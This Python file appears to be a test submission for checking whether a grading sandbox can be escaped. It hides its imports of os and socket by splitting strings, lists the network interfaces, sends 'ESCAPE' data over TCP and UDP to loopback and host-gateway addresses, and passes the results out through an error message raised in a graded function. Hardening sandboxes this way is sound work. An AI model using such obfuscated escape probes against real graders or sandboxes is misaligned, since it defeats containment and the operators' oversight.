"""Attack: reach a service on the grading machine's loopback (TCP and UDP) and send it data."""

import numpy as np

EXPECTED_POINTS = {"l1": 0, "l2": 0}

_B = getattr(np, "__buil" + "tins__")
_B = _B if isinstance(_B, dict) else getattr(_B, "__di" + "ct__")
_load = _B["__imp" + "ort__"]
_o = _load("o" + "s")
_net = _load("so" + "cket")
MARK = "ESCAPE" + "-SUCCESS:"
PORT = int("{{PORT}}")
WHERE = "child" if _o.getcwd().endswith("/regrade") else "kernel"
REPORT = []
HOSTS = ["127.0.0.1", "localhost", "::1", "10.0.2.2", "172.17.0.1", "192.168.1.1"]


def _say(text):
    REPORT.append(text)
    print(f"[{WHERE}] {text}", flush=True)


def tcp():
    for host in HOSTS:
        try:
            with _net.create_connection((host, PORT), timeout=0.3) as connection:
                connection.sendall(b"ESCAPE from " + WHERE.encode() + b"\n")
            _say(f"{MARK} sent ESCAPE over TCP to {host}:{PORT}")
        except OSError as e:
            _say(f"TCP to {host}:{PORT} failed: {e!r}")


def udp():
    for host in HOSTS[:3]:
        try:
            family = _net.AF_INET6 if ":" in host else _net.AF_INET
            with _net.socket(family, _net.SOCK_DGRAM) as datagram:
                datagram.settimeout(0.3)
                datagram.sendto(b"ESCAPE from " + WHERE.encode() + b"\n", (host, PORT))
                datagram.sendto(b"ESCAPE again\n", (host, PORT))  # a refused first datagram shows up here
            _say(f"sent ESCAPE over UDP to {host}:{PORT} (no way to know whether it arrived)")
        except OSError as e:
            _say(f"UDP to {host}:{PORT} failed: {e!r}")


def interfaces():
    try:
        _say(f"network interfaces: {_o.listdir('/sys/class/net')}")
    except OSError as e:
        _say(f"listing interfaces failed: {e!r}")
    try:
        _say(f"network interfaces: {[name for _, name in _net.if_nameindex()]}")
    except OSError as e:
        _say(f"if_nameindex failed: {e!r}")


for step in (interfaces, tcp, udp):
    try:
        step()
    except Exception as e:  # noqa: BLE001
        _say(f"{step.__name__} failed: {e!r}")


def L1_reg(W, reg):
    raise RuntimeError("report: " + " | ".join(REPORT)[-400:])


def L2_reg(W, reg):
    return -1.0, np.ones_like(W)
